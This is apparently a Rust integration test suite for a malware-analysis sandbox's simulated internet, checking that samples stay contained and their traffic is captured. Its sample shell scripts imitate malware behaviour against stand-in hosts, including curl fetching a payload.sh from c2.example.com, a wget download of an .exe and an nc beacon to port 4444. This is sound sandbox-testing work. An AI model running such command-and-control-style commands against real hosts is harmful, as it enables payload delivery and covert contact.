//! The simulated internet, end to end through `aegis analyze`. Needs root.
//!
//! Every analysis here runs inside an outer network namespace the test makes (no route out,
//! loopback and a veth pair carrying 192.0.2.1 only), so that even a bug cannot put a packet
//! on a real network; canary listeners on that namespace's addresses and its interface
//! counters prove that nothing left the sandbox. Samples aim only at the documentation ranges
//! 192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24.

mod support;

use std::collections::BTreeSet;
use std::fs::File;
use std::io::ErrorKind;
use std::net::{TcpListener, UdpSocket};
use std::os::fd::AsRawFd;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use aegis::report::{Connection, Report};
use support::*;

/// Port of the canary listeners.
const CANARY_PORT: u16 = 47_011;
/// The outer namespace's non-loopback address: a target the samples reach for.
const CANARY_IP: &str = "192.0.2.1";

/// A network namespace of the test's own, removed when dropped.
struct OuterNet {
    name: String,
    ns: File,
    /// The interfaces whose counters must not move.
    interfaces: Vec<&'static str>,
}

fn ip(args: &[&str]) -> bool {
    Command::new("ip")
        .args(args)
        .status()
        .is_ok_and(|s| s.success())
}

impl OuterNet {
    fn new(tag: &str) -> OuterNet {
        let name = format!("aegis-test-{}-{tag}", std::process::id());
        let _ = ip(&["netns", "del", &name]);
        assert!(ip(&["netns", "add", &name]), "ip netns add {name}");
        assert!(ip(&["-n", &name, "link", "set", "lo", "up"]));
        // No IPv6 here: its router solicitations and address checks would move the counters
        // on their own. IPv4 sends nothing unasked.
        let quiet = Command::new("ip")
            .args(["netns", "exec", &name, "sysctl", "-qw"])
            .args([
                "net.ipv6.conf.all.disable_ipv6=1",
                "net.ipv6.conf.default.disable_ipv6=1",
            ])
            .status()
            .is_ok_and(|s| s.success());
        assert!(quiet, "disable IPv6 in {name}");
        let cidr = format!("{CANARY_IP}/24");
        // A veth pair carries the canary address; where veth is missing, loopback does.
        let interfaces = if ip(&[
            "-n", &name, "link", "add", "cv0", "type", "veth", "peer", "name", "cv1",
        ]) {
            assert!(ip(&["-n", &name, "addr", "add", &cidr, "dev", "cv0"]));
            assert!(ip(&["-n", &name, "link", "set", "cv0", "up"]));
            assert!(ip(&["-n", &name, "link", "set", "cv1", "up"]));
            vec!["lo", "cv0", "cv1"]
        } else {
            assert!(ip(&["-n", &name, "addr", "add", &cidr, "dev", "lo"]));
            vec!["lo"]
        };
        let ns = File::open(format!("/run/netns/{name}")).expect("open the namespace");
        OuterNet {
            name,
            ns,
            interfaces,
        }
    }

    /// Runs `f` on a thread inside the namespace (sockets made there stay there).
    fn inside<T: Send>(&self, f: impl FnOnce() -> T + Send) -> T {
        std::thread::scope(|s| {
            s.spawn(|| {
                nix::sched::setns(&self.ns, nix::sched::CloneFlags::CLONE_NEWNET)
                    .expect("setns into the outer namespace");
                f()
            })
            .join()
            .expect("thread in the outer namespace")
        })
    }

    fn canaries(&self) -> Canaries {
        self.inside(|| {
            let mut c = Canaries::default();
            for addr in ["127.0.0.1", CANARY_IP] {
                let t = TcpListener::bind((addr, CANARY_PORT)).expect("canary tcp");
                t.set_nonblocking(true).unwrap();
                let u = UdpSocket::bind((addr, CANARY_PORT)).expect("canary udp");
                u.set_nonblocking(true).unwrap();
                c.tcp.push(t);
                c.udp.push(u);
            }
            c
        })
    }

    /// Packets each way on each interface of the namespace.
    fn counters(&self) -> Vec<(String, u64, u64)> {
        let out = Command::new("ip")
            .args(["-n", &self.name, "-s", "-j", "link", "show"])
            .output()
            .expect("ip -s link");
        let links: serde_json::Value = serde_json::from_slice(&out.stdout).expect("ip -j");
        links
            .as_array()
            .unwrap()
            .iter()
            .filter(|l| {
                self.interfaces
                    .contains(&l["ifname"].as_str().unwrap_or(""))
            })
            .map(|l| {
                let s = &l["stats64"];
                (
                    l["ifname"].as_str().unwrap().to_string(),
                    s["rx"]["packets"].as_u64().unwrap(),
                    s["tx"]["packets"].as_u64().unwrap(),
                )
            })
            .collect()
    }

    /// `aegis analyze --json --out <out>` inside the namespace.
    fn analyze_raw(&self, sample: &Path, out: &Path, args: &[&str]) -> Output {
        let fd = self.ns.as_raw_fd();
        let mut cmd = aegis();
        cmd.arg("analyze")
            .arg(sample)
            .arg("--json")
            .arg("--out")
            .arg(out)
            .args(args);
        // SAFETY: setns is async-signal-safe and the descriptor is open in the child.
        unsafe {
            cmd.pre_exec(move || {
                if libc::setns(fd, libc::CLONE_NEWNET) != 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        cmd.output().expect("aegis runs")
    }

    fn analyze(&self, sample: &Path, out: &Path, args: &[&str]) -> Report {
        report_of(self.analyze_raw(sample, out, args))
    }
}

fn report_of(out: Output) -> Report {
    assert!(
        out.status.success(),
        "aegis analyze failed ({}): {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    let r: Report = serde_json::from_slice(&out.stdout).expect("a report");
    assert_no_leftovers(&r.analysis_id);
    r
}

impl Drop for OuterNet {
    fn drop(&mut self) {
        let _ = ip(&["netns", "del", &self.name]);
    }
}

#[derive(Default)]
struct Canaries {
    tcp: Vec<TcpListener>,
    udp: Vec<UdpSocket>,
}

impl Canaries {
    fn assert_silent(&self) {
        for t in &self.tcp {
            match t.accept() {
                Err(e) if e.kind() == ErrorKind::WouldBlock => {}
                other => panic!("a canary listener was reached: {other:?}"),
            }
        }
        let mut buf = [0u8; 64];
        for u in &self.udp {
            match u.recv_from(&mut buf) {
                Err(e) if e.kind() == ErrorKind::WouldBlock => {}
                other => panic!("a canary socket received: {other:?}"),
            }
        }
    }
}

/// Runs one sample in a fresh outer namespace with canaries; asserts nothing reached them.
fn contained(tag: &str, script: &str, args: &[&str]) -> (Report, PathBuf, tempfile::TempDir) {
    let net = OuterNet::new(tag);
    let canaries = net.canaries();
    let dir = workdir();
    let sample = write(dir.path(), &format!("{tag}.sh"), script.as_bytes());
    let out = dir.path().join("out");
    let before = net.counters();
    let r = net.analyze(&sample, &out, args);
    canaries.assert_silent();
    assert_eq!(
        net.counters(),
        before,
        "packets appeared on the outer interfaces"
    );
    (r, out, dir)
}

fn tcp_to<'a>(r: &'a Report, ip: &str, port: u16) -> &'a Connection {
    r.network
        .connections
        .iter()
        .find(|c| {
            c.protocol == "tcp" && c.dst_ip.as_deref() == Some(ip) && c.dst_port == Some(port)
        })
        .unwrap_or_else(|| {
            panic!(
                "no tcp connection to {ip}:{port}: {:#?}",
                r.network.connections
            )
        })
}

/// What the guest sent, from the capture: (protocol, destination, port, TCP SYN).
fn captured(pcap: &Path) -> BTreeSet<(String, String, u16)> {
    let file = File::open(pcap).expect("network.pcap is kept");
    let mut reader = pcap_file::pcap::PcapReader::new(file).expect("a pcap");
    assert_eq!(reader.header().datalink, pcap_file::DataLink::RAW);
    let mut seen = BTreeSet::new();
    while let Some(packet) = reader.next_packet() {
        let packet = packet.expect("a whole packet");
        let Ok(p) = etherparse::SlicedPacket::from_ip(&packet.data) else {
            continue;
        };
        let dst = match &p.net {
            Some(etherparse::NetSlice::Ipv4(v4)) => v4.header().destination_addr().to_string(),
            Some(etherparse::NetSlice::Ipv6(v6)) => v6.header().destination_addr().to_string(),
            _ => continue,
        };
        match &p.transport {
            Some(etherparse::TransportSlice::Tcp(t)) if t.syn() && !t.ack() => {
                seen.insert(("tcp-syn".into(), dst, t.destination_port()));
            }
            Some(etherparse::TransportSlice::Udp(u)) => {
                seen.insert(("udp".into(), dst, u.destination_port()));
            }
            Some(etherparse::TransportSlice::Icmpv4(_)) => {
                seen.insert(("icmp".into(), dst, 0));
            }
            _ => {}
        }
    }
    seen
}

const EVERYTHING: &str = r#"#!/bin/sh
getent hosts c2.example.com
curl -sS -m 5 -A aegis-test-agent http://c2.example.com/payload.sh -o /tmp/p.sh; echo curl=$?
cat /tmp/p.sh
wget -q -T 5 -O /tmp/w.bin http://198.51.100.7:8080/files/a.exe; echo wget=$?
echo hello | nc -N -w 2 192.0.2.10 4444; echo nc=$?
echo hi | nc -N -w 2 203.0.113.30 6000; echo nc2=$?
printf 'EHLO aegis\r\nQUIT\r\n' | nc -w 2 192.0.2.25 25 | head -c 4; echo
echo ping | nc -u -w 1 203.0.113.9 5353; echo ncu=$?
echo | timeout 5 openssl s_client -connect 203.0.113.20:443 -servername secure.example.net >/dev/null 2>&1
nc -z -w 1 192.0.2.1 47011; echo canary-tcp=$?
echo x | nc -u -w 1 192.0.2.1 47011
nc -z -w 1 127.0.0.1 47011; echo canary-lo=$?
ping -c 1 -W 2 203.0.113.40 >/dev/null; echo ping=$?
"#;

#[test]
fn simulated_internet_answers_every_protocol_and_captures_it_and_nothing_leaves() {
    let (r, out, _dir) = contained("all", EVERYTHING, &["--timeout", "40"]);
    let stdout = &r.output.stdout.text;
    assert_eq!(r.environment.network, "simulated");
    assert_eq!(r.network.mode, "simulated");
    assert!(stdout.contains("curl=0\n"), "{stdout}");
    assert!(
        stdout.contains("# simulated internet: a harmless placeholder script\n"),
        "{stdout}"
    );
    assert!(stdout.contains("wget=0\n"), "{stdout}");
    assert!(
        stdout.contains("nc=0\n") && stdout.contains("nc2=0\n"),
        "{stdout}"
    );
    assert!(stdout.contains("220 \n"), "the SMTP banner: {stdout}");
    // The simulated internet answers 192.0.2.1 too: the outer namespace's listener does not.
    assert!(stdout.contains("canary-tcp=0\n"), "{stdout}");
    assert!(
        stdout.contains("canary-lo=1\n"),
        "the guest's own loopback: {stdout}"
    );
    assert!(
        stdout.contains("ping=0\n"),
        "every address answers a ping: {stdout}"
    );

    let dns = r.network.dns.as_ref().expect("dns list");
    let a = dns
        .iter()
        .find(|d| d.query == "c2.example.com" && d.qtype == "A")
        .expect("the A question");
    assert_eq!(
        (a.answers.clone(), a.rcode.as_str()),
        (vec!["198.18.0.1".to_string()], "NOERROR")
    );
    assert!(a.process_id.is_some(), "the resolver's process");
    assert!(dns.iter().any(|d| d.query == "c2.example.com"
        && d.qtype == "AAAA"
        && d.answers == ["2001:db8:ae::1"]));

    let http = r.network.http.as_ref().expect("http list");
    assert_eq!(http.len(), 2, "{http:#?}");
    assert_eq!(
        (
            http[0].method.as_str(),
            http[0].url.as_str(),
            http[0].host.as_deref(),
            http[0].path.as_str()
        ),
        (
            "GET",
            "http://c2.example.com/payload.sh",
            Some("c2.example.com"),
            "/payload.sh"
        )
    );
    assert_eq!(http[0].user_agent.as_deref(), Some("aegis-test-agent"));
    assert_eq!(http[0].response_content_type, "text/x-shellscript");
    let curl = r
        .processes
        .iter()
        .find(|p| p.image == "/usr/bin/curl")
        .expect("curl ran");
    assert_eq!(http[0].process_id, Some(curl.id));
    assert_eq!(http[1].url, "http://198.51.100.7:8080/files/a.exe");
    assert!(http[1]
        .user_agent
        .as_deref()
        .unwrap_or("")
        .starts_with("Wget/"));
    let wget = r
        .processes
        .iter()
        .find(|p| p.image == "/usr/bin/wget")
        .expect("wget ran");
    assert_eq!(http[1].process_id, Some(wget.id));

    let beacon = tcp_to(&r, "192.0.2.10", 4444);
    assert_eq!(
        (beacon.bytes_out, beacon.first_bytes.as_deref()),
        (Some(6), Some("hello\n"))
    );
    assert_eq!(beacon.seen_in, "syscall+traffic");
    let nc = r
        .processes
        .iter()
        .find(|p| p.argv.iter().any(|a| a == "4444"))
        .expect("nc ran");
    assert_eq!(beacon.process_id, Some(nc.id));
    assert_eq!(tcp_to(&r, "203.0.113.30", 6000).bytes_out, Some(3));
    let smtp = tcp_to(&r, "192.0.2.25", 25);
    assert_eq!(smtp.service.as_deref(), Some("smtp"));
    assert_eq!(smtp.commands, vec!["EHLO aegis", "QUIT"]);
    let udp = r
        .network
        .connections
        .iter()
        .find(|c| c.protocol == "udp" && c.dst_port == Some(5353))
        .expect("the UDP datagram");
    assert_eq!(
        (udp.dst_ip.as_deref(), udp.bytes_out, udp.datagrams),
        (Some("203.0.113.9"), Some(5), Some(1))
    );

    let tls = r.network.tls.as_ref().expect("tls list");
    assert_eq!(tls.len(), 1, "{tls:#?}");
    assert_eq!(tls[0].sni.as_deref(), Some("secure.example.net"));
    assert_eq!(tls[0].dst_port, Some(443));
    use md5::Digest;
    assert_eq!(
        tls[0].ja3,
        hex::encode(md5::Md5::digest(tls[0].ja3_string.as_bytes()))
    );
    assert!(
        tls[0].ja3_string.starts_with("771,"),
        "{}",
        tls[0].ja3_string
    );

    // One record per connection: no second record for a connection the traffic also saw.
    let to_4444 = r
        .network
        .connections
        .iter()
        .filter(|c| c.dst_port == Some(4444))
        .count();
    assert_eq!(to_4444, 1);
    assert!(r
        .summary
        .dns_lookups
        .iter()
        .any(|l| l.hostname == "c2.example.com"
            && l.resolved_ips.contains(&"198.18.0.1".to_string())));
    assert_eq!(r.summary.http_conversations.len(), 2);
    assert_eq!(r.summary.http_conversations[0].response_status_code, 200);

    assert_eq!(r.network.pcap.as_deref(), Some("network.pcap"));
    let seen = captured(&out.join("artifacts/network.pcap"));
    for (proto, dst, port) in [
        ("tcp-syn", "198.18.0.1", 80),
        ("tcp-syn", "198.51.100.7", 8080),
        ("tcp-syn", "192.0.2.10", 4444),
        ("tcp-syn", "192.0.2.25", 25),
        ("tcp-syn", "203.0.113.20", 443),
        ("tcp-syn", "192.0.2.1", CANARY_PORT),
        ("udp", "203.0.113.9", 5353),
        ("icmp", "203.0.113.40", 0),
        ("udp", "172.31.0.2", 53),
        ("udp", "192.0.2.1", CANARY_PORT),
    ] {
        assert!(
            seen.contains(&(proto.to_string(), dst.to_string(), port)),
            "{proto} to {dst}:{port} not in the capture: {seen:?}"
        );
    }
    assert_eq!(r.network.pcap_packets_not_written, Some(0));
    assert!(r.incomplete.is_empty(), "{:?}", r.incomplete);
}

#[test]
fn nxdomain_mode_resolves_no_name() {
    let script =
        "#!/bin/sh\ndig +time=2 +tries=1 update.example.com A | grep -o 'status: [A-Z]*'\n\
                  curl -sS -m 3 http://update.example.com/; echo curl=$?\n";
    let (r, out, _dir) = contained("nx", script, &["--timeout", "20", "--dns", "nxdomain"]);
    assert!(
        r.output.stdout.text.contains("status: NXDOMAIN"),
        "{}",
        r.output.stdout.text
    );
    assert!(
        r.output.stdout.text.contains("curl=6\n"),
        "{}",
        r.output.stdout.text
    );
    assert_eq!(r.network.dns_mode.as_deref(), Some("nxdomain"));
    let dns = r.network.dns.as_ref().unwrap();
    assert!(!dns.is_empty());
    assert!(
        dns.iter()
            .all(|d| d.rcode == "NXDOMAIN" && d.answers.is_empty()),
        "{dns:#?}"
    );
    assert_eq!(r.network.http.as_ref().map(Vec::len), Some(0));
    assert!(captured(&out.join("artifacts/network.pcap")).contains(&(
        "udp".into(),
        "172.31.0.2".into(),
        53
    )));
}

#[test]
fn network_none_is_loopback_only_and_says_so() {
    let script = "#!/bin/sh\ncurl -sS -m 3 http://192.0.2.10/x; echo curl=$?\nip -brief link\n";
    let (r, out, _dir) = contained("none", script, &["--timeout", "20", "--network", "none"]);
    let stdout = &r.output.stdout.text;
    assert!(stdout.contains("curl=7\n"), "{stdout}");
    assert!(!stdout.contains("eth0"), "{stdout}");
    assert_eq!(
        (r.environment.network.as_str(), r.network.mode.as_str()),
        ("none", "none")
    );
    assert!(r.network.note.as_deref().unwrap().contains("loopback only"));
    assert!(r.network.dns.is_none() && r.network.http.is_none() && r.network.tls.is_none());
    assert!(r.network.pcap.is_none());
    assert!(!out.join("artifacts/network.pcap").exists());
    let c = tcp_to(&r, "192.0.2.10", 80);
    assert_eq!((c.outcome.as_str(), c.bytes_out), ("unreachable", None));
}

#[test]
fn an_empty_capture_is_well_formed() {
    let (r, out, _dir) = contained("quiet", "#!/bin/sh\necho quiet\n", &["--timeout", "10"]);
    assert_eq!(r.network.pcap.as_deref(), Some("network.pcap"));
    let file = File::open(out.join("artifacts/network.pcap")).unwrap();
    let mut reader = pcap_file::pcap::PcapReader::new(file).expect("a pcap header");
    // The kernel may send an IPv6 router solicitation on its own; the sample sent nothing.
    let mut n = 0;
    while let Some(p) = reader.next_packet() {
        p.expect("whole packets");
        n += 1;
    }
    assert_eq!(r.network.pcap_packets, Some(n));
    assert_eq!(r.network.dns.as_ref().map(Vec::len), Some(0));
    assert!(r.network.connections.iter().all(|c| c.protocol != "tcp"));
}

#[test]
fn two_analyses_at_once_cannot_reach_each_other() {
    let listener = "#!/bin/sh\ncurl -s -m 3 http://only-a.example/ >/dev/null\n\
        python3 -c \"\nimport socket\ns=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
s.bind(('0.0.0.0', 7777)); s.listen(5); s.settimeout(8)\ntry:\n    c, a = s.accept(); print('accepted', a)\n\
except socket.timeout:\n    print('nobody came')\n\"\n";
    let caller = "#!/bin/sh\nsleep 2\ncurl -s -m 3 http://only-b.example/ >/dev/null\n\
        nc -z -w 1 172.31.18.44 7777; echo own-address=$?\n\
        echo hi | nc -N -w 1 172.31.16.1 7777; echo gateway=$?\n";
    let net = OuterNet::new("pair");
    let canaries = net.canaries();
    let dir = workdir();
    let a = write(dir.path(), "a.sh", listener.as_bytes());
    let b = write(dir.path(), "b.sh", caller.as_bytes());
    let (ra, rb) = std::thread::scope(|s| {
        let ta = s.spawn(|| net.analyze_raw(&a, &dir.path().join("out-a"), &["--timeout", "20"]));
        let tb = s.spawn(|| net.analyze_raw(&b, &dir.path().join("out-b"), &["--timeout", "20"]));
        (report_of(ta.join().unwrap()), report_of(tb.join().unwrap()))
    });
    canaries.assert_silent();
    assert!(
        ra.output.stdout.text.contains("nobody came"),
        "{}",
        ra.output.stdout.text
    );
    let out_b = &rb.output.stdout.text;
    assert!(
        out_b.contains("own-address=1\n"),
        "its own sandbox answers, no listener: {out_b}"
    );
    assert!(
        out_b.contains("gateway=0\n"),
        "its own simulated internet answers: {out_b}"
    );
    let hosts = |r: &Report| -> Vec<String> {
        r.network
            .http
            .iter()
            .flatten()
            .filter_map(|h| h.host.clone())
            .collect()
    };
    assert_eq!(hosts(&ra), vec!["only-a.example"]);
    assert_eq!(hosts(&rb), vec!["only-b.example"]);
    assert!(ra
        .network
        .connections
        .iter()
        .all(|c| c.dst_port != Some(7777)));
}

/// The proof above is only worth something if the canaries and counters do notice a packet.
#[test]
fn canaries_and_counters_notice_what_reaches_them() {
    let net = OuterNet::new("probe");
    let canaries = net.canaries();
    let before = net.counters();
    net.inside(|| {
        let _ = std::net::TcpStream::connect((CANARY_IP, CANARY_PORT)).expect("connect");
        let u = UdpSocket::bind(("127.0.0.1", 0)).unwrap();
        u.send_to(b"x", (CANARY_IP, CANARY_PORT)).unwrap();
    });
    assert_ne!(net.counters(), before, "the counters moved");
    let caught =
        std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| canaries.assert_silent()));
    assert!(caught.is_err(), "the canaries noticed");
}
